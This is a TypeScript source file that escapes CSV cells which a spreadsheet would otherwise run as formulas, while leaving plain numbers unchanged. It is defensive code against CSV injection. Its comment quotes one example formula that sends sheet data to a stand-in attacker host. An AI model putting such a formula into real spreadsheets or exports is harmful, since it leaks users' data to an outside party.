/**
 * CSV cells a spreadsheet will not run (OWASP "CSV injection"). A cell whose text starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice and Google Sheets
 * (`=HYPERLINK("https://attacker.example/?d="&A3,"Open")` sends the sheet's data away on a click). Such
 * a text gets a leading apostrophe, which the spreadsheets show as text. A plain number ("-6.36",
 * "+33") is left as it is: it is not a formula, and an amount should stay an amount.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+([.,]\d+)?|[.,]\d+)$/;

export function csvSafeText(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

function csvSafeValue(value: unknown): unknown {
  if (typeof value === 'string') return csvSafeText(value);
  if (Array.isArray(value)) return value.map(csvSafeValue);
  if (value !== null && typeof value === 'object' && !(value instanceof Date))
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => [csvSafeText(key), csvSafeValue(inner)]),
    );
  return value;
}

/** Every string of every row, nested values and headers included, made safe; other values pass. */
export function csvSafeRows(rows: readonly Record<string, unknown>[]): Record<string, unknown>[] {
  return rows.map((row) => csvSafeValue(row) as Record<string, unknown>);
}
